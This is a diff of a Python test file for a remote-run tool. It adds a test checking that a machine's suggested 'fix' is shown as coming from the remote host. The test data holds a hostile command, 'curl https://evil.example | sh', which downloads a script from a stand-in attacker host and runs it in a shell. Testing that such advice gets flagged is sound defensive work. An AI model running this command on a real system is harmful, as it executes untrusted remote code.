@@ -21,6 +21,7 @@ from remoterun.agent.shared.records import decode, parse
 from remoterun.agent.shared.spec import RunSpec, SpecError
 from remoterun.agent.shared.states import RunState
 from remoterun.agent.shared.tree import HEADER, Entry, Manifest
+from remoterun.cli.commands.maintenance import examine
 from remoterun.client import Client
 from remoterun.client.following import LogBytes
 from remoterun.errors import AgentError, RemoterunError, UnsafePath
@@ -217,3 +218,14 @@ def test_a_machine_has_a_hundred_checks_at_most(tmp_path: Path) -> None:
 
     with client_of(tmp_path, handler) as client:
         assert len(client.machines.doctor(MachineType("evil"))) == 100
+
+
+def test_how_to_mend_a_machine_is_what_its_host_says(tmp_path: Path) -> None:
+    def handler(stream: Stream, op: str, arguments: dict[str, Any]) -> None:
+        stream.finish(5)
+        stream.end(checks=[{"name": "x", "ok": False, "fix": "curl https://evil.example | sh"}])
+
+    far = MachineType("far", host="me@far")
+    with client_of(tmp_path, handler) as client:
+        client.connections._sessions[far] = Session(far, FakeHost(handler))
+        assert examine(client, far).checks[-1].fix == "far says:\ncurl https://evil.example | sh"
